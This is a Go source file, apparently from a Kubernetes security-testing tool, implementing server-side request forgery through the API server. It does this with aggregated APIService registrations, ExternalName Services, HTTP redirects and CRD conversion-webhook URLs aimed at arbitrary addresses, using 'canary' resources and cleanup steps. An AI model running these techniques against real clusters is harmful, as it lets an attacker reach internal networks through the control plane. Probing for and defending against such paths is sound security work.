package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// group of the attacker's own APIs. Each try has one.
func (a *Attacker) group() string { return a.name("group") + ".example.com" }

// apiService has an API server ask a Service for a group.
func apiService(group string, service *corev1.Service) *unstructured.Unstructured {
	return &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": map[string]any{"name": "v1." + group},
		"spec": map[string]any{
			"group": group, "version": "v1", "groupPriorityMinimum": int64(1000), "versionPriority": int64(10), "insecureSkipTLSVerify": true,
			"service": map[string]any{"namespace": service.Namespace, "name": service.Name, "port": int64(service.Spec.Ports[0].Port)},
		},
	}}
}

func (a *Attacker) aggregated(ctx context.Context, service *corev1.Service) (string, error) {
	group := a.group()
	api := apiService(group, service)
	if err := a.Client.Create(ctx, api); err != nil {
		return "", fmt.Errorf("make an APIService: %w", err)
	}
	defer a.remove(ctx, api)
	return a.eventually(ctx, func(ctx context.Context) (string, error) { return a.get(ctx, "/apis", group, "v1", "canaries") })
}

func aggregatedByExternalName(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	service, err := a.service(ctx, external(to.Addr().String(), to.Port()))
	if err != nil {
		return "", err
	}
	defer a.remove(ctx, service)
	return a.aggregated(ctx, service)
}

func aggregatedRedirect(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	return a.byOwnServer(ctx, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/canaries") {
			redirect(to).ServeHTTP(w, r)
			return
		}
		// By this an API server knows that the API is there.
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"kind":"APIResourceList","apiVersion":"v1","groupVersion":"v1","resources":[]}`)
	}), a.aggregated)
}

func conversionByURL(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	group := a.group()
	crd := converted(group, map[string]any{"url": "https://" + to.String() + "/canary", "caBundle": base64.StdEncoding.EncodeToString(a.CA)})
	if err := a.Client.Create(ctx, crd); err != nil {
		return "", fmt.Errorf("make a CRD: %w", err)
	}
	defer a.remove(ctx, crd)
	object := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": group + "/v1", "kind": "Canary", "metadata": map[string]any{"namespace": metav1.NamespaceDefault, "name": "canary"},
	}}
	if _, err := a.eventually(ctx, func(ctx context.Context) (string, error) {
		return "", a.API.RESTClient().Post().AbsPath("/apis", group, "v1", "namespaces", metav1.NamespaceDefault, "canaries").Body(raw(object)).Do(ctx).Error()
	}); err != nil {
		return "", err
	}
	defer func() {
		_ = a.API.RESTClient().Delete().AbsPath("/apis", group, "v1", "namespaces", metav1.NamespaceDefault, "canaries", "canary").Do(context.WithoutCancel(ctx)).Error()
	}()
	return a.get(ctx, "/apis", group, "v2", "namespaces", metav1.NamespaceDefault, "canaries", "canary")
}

func raw(object *unstructured.Unstructured) []byte {
	text, _ := object.MarshalJSON() // It is a map of strings.
	return text
}

// converted is a CRD with two versions, between which a webhook converts.
func converted(group string, webhook map[string]any) *unstructured.Unstructured {
	version := func(name string, storage bool) map[string]any {
		return map[string]any{"name": name, "served": true, "storage": storage, "schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object"}}}
	}
	return &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": map[string]any{"name": "canaries." + group},
		"spec": map[string]any{
			"group": group, "scope": "Namespaced", "names": map[string]any{"kind": "Canary", "plural": "canaries"},
			"versions": []any{version("v1", true), version("v2", false)},
			"conversion": map[string]any{"strategy": "Webhook", "webhook": map[string]any{
				"conversionReviewVersions": []any{"v1"}, "clientConfig": webhook,
			}},
		},
	}}
}
